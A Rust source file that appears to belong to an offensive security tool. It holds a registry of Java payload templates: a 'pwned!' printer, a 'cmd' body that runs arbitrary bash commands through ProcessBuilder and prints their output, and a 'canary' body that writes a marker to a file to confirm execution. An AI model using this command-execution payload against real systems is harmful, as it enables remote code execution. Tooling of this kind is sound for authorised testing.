use super::{Template, TemplateError};

/// Name of the template used when no payload is selected
pub const DEFAULT_TEMPLATE: &str = "default";

const DEFAULT_BODY: &str = r#"System.out.println("pwned!");"#;

const CMD_BODY: &str = r#"
try {
    ProcessBuilder builder = new ProcessBuilder(new String[]{"bash", "-c", "$cmd$"});
    Process process = builder.start();

    // Capture and print stdout
    java.io.BufferedReader stdoutReader = new java.io.BufferedReader(new java.io.InputStreamReader(process.getInputStream()));
    String line;
    while ((line = stdoutReader.readLine()) != null) {
        System.out.println(line);
    }

    // Capture and print stderr
    java.io.BufferedReader stderrReader = new java.io.BufferedReader(new java.io.InputStreamReader(process.getErrorStream()));
    while ((line = stderrReader.readLine()) != null) {
        System.err.println(line);
    }

    process.waitFor();
} catch (Exception e) {
    e.printStackTrace();
    System.out.println(e);
}
"#;

const CANARY_BODY: &str = r#"
try {
    String marker = new Throwable().getStackTrace()[0].getClassName() + "\n";
    java.nio.file.Files.write(
        java.nio.file.Paths.get("$path$"),
        marker.getBytes(java.nio.charset.StandardCharsets.UTF_8),
        java.nio.file.StandardOpenOption.CREATE,
        java.nio.file.StandardOpenOption.APPEND);
} catch (java.io.IOException e) {
    System.err.println(e);
}
"#;

/// A named payload body
#[derive(Debug, Clone)]
pub struct PayloadTemplate {
    name: String,
    body: String,
    template: Template,
}

impl PayloadTemplate {
    pub fn new(name: impl Into<String>, body: impl Into<String>) -> Result<Self, TemplateError> {
        let body = body.into();
        let template = Template::compile(&body)?;
        Ok(Self {
            name: name.into(),
            body,
            template,
        })
    }

    pub fn name(&self) -> &str {
        &self.name
    }

    /// The body as written, with `$name$` placeholders
    pub fn body(&self) -> &str {
        &self.body
    }

    pub fn template(&self) -> &Template {
        &self.template
    }
}

/// Ordered lookup table of payload templates
///
/// Always contains a [`DEFAULT_TEMPLATE`] entry.
#[derive(Debug, Clone)]
pub struct TemplateRegistry {
    templates: Vec<PayloadTemplate>,
}

impl TemplateRegistry {
    /// Registry holding the built-in templates
    pub fn builtin() -> Result<Self, TemplateError> {
        let mut registry = Self {
            templates: vec![PayloadTemplate::new(DEFAULT_TEMPLATE, DEFAULT_BODY)?],
        };
        registry.register(PayloadTemplate::new("cmd", CMD_BODY)?);
        registry.register(PayloadTemplate::new("canary", CANARY_BODY)?);
        Ok(registry)
    }

    /// Register a template, replacing any existing one with the same name
    pub fn register(&mut self, template: PayloadTemplate) {
        match self.templates.iter_mut().find(|t| t.name == template.name) {
            Some(existing) => *existing = template,
            None => self.templates.push(template),
        }
    }

    pub fn get(&self, name: &str) -> Option<&PayloadTemplate> {
        self.templates.iter().find(|t| t.name == name)
    }

    /// Look up a template, failing with `UnknownTemplate`
    pub fn select(&self, name: &str) -> Result<&PayloadTemplate, TemplateError> {
        self.get(name)
            .ok_or_else(|| TemplateError::UnknownTemplate(name.to_string()))
    }

    pub fn default_template(&self) -> Result<&PayloadTemplate, TemplateError> {
        self.select(DEFAULT_TEMPLATE)
    }

    /// Templates in registration order
    pub fn iter(&self) -> impl Iterator<Item = &PayloadTemplate> {
        self.templates.iter()
    }
}
